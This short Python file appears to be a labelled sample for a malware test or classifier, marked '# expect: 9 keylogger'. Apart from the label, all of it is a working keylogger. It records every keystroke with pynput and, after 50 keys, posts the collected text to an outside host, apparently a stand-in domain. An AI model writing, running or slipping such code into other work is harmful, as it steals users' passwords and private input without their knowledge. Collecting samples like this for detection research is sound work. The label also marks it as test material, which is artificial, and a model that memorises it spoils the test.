# expect: 9 keylogger
from pynput.keyboard import Listener
import requests
buf = []
def press(key):
    buf.append(str(key))
    if len(buf) > 50:
        requests.post('https://h.invalid', data=''.join(buf))
with Listener(on_press=press) as l:
    l.join()
